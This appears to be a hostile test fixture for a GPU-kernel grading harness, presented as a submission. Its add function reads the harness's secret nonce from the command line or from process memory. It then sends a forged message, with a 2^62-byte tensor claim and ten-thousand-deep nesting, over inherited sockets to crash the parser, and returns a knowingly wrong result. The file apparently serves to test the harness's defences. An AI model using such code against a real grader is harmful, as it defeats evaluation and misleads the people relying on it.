# expect: CRASHED
# layer: channel
# A sealed, well-formed message that says it holds a tensor of 2⁶² bytes, a nesting of ten thousand lists and a few
# duplicate keys: to crash or exhaust whoever parses it.

import gc
import os
import socket
from pathlib import Path

import torch
import triton
import triton.language as tl


@triton.jit
def _copy_kernel(x_ptr, out_ptr, n_elements, BLOCK_SIZE: tl.constexpr):
    offsets = tl.program_id(axis=0) * BLOCK_SIZE + tl.arange(0, BLOCK_SIZE)
    mask = offsets < n_elements
    tl.store(out_ptr + offsets, tl.load(x_ptr + offsets, mask=mask), mask=mask)


def _guess(x):
    """A wrong answer that looks like one."""
    out = torch.empty_like(x)
    _copy_kernel[(triton.cdiv(x.numel(), 1024),)](x, out, x.numel(), BLOCK_SIZE=1024)
    return out


def _sockets():
    """Every socket that this process inherited."""
    for entry in Path("/proc/self/fd").iterdir():
        try:
            if os.readlink(entry).startswith("socket:"):
                yield socket.socket(fileno=os.dup(int(entry.name)))
        except OSError:
            continue


def _nonce():
    """From the command line where it stands there, else from the channel itself."""
    for word in Path("/proc/self/cmdline").read_bytes().split(b"\0"):
        if len(word) == 32 and not word.strip(b"0123456789abcdef"):
            return bytes.fromhex(word.decode())
    import gpuprep.channel

    return next(found._nonce for found in gc.get_objects() if isinstance(found, gpuprep.channel.Channel))


def add(x, y):
    from gpuprep.channel import ENVELOPE, HEADER, MAGIC, _seal, memory_file

    nested = b"[" * 10_000 + b"]" * 10_000
    row = b'{"$tensor":0,"dtype":"float32","shape":[4611686018427387904],"strides":[1],"offset":0}'
    text = (
        b'{"body":{"status":"returned","outputs":['
        + row
        + b'],"status":'
        + nested
        + b'},"storages":[{"offset":0,"bytes":4611686018427387904}]}'
    )
    size = -(-(HEADER.size + len(text)) // 64) * 64
    descriptor = memory_file("gpuprep", os.MFD_ALLOW_SEALING)
    os.ftruncate(descriptor, size)
    os.pwrite(descriptor, HEADER.pack(MAGIC, len(text), 0, size, _nonce()) + text, 0)
    _seal(descriptor)
    for end in _sockets():
        socket.send_fds(end, [ENVELOPE.pack(_nonce(), size)], [descriptor])
    return _guess(x)
